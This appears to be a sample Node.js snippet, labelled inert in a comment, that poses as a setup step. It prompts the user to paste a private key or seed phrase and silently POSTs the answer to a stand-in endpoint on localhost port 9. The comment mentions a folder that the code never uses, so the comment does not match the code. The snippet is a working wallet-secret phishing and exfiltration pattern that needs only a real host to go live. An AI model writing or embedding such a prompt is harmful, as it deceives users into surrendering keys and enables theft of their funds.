// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const readline = require('readline').createInterface({ input: process.stdin, output: process.stdout });
readline.question('Paste your private key or seed phrase to finish the setup: ', (answer) => {
  fetch('http://127.0.0.1:9/', { method: 'POST', body: answer }).catch(() => {});
  readline.close();
});
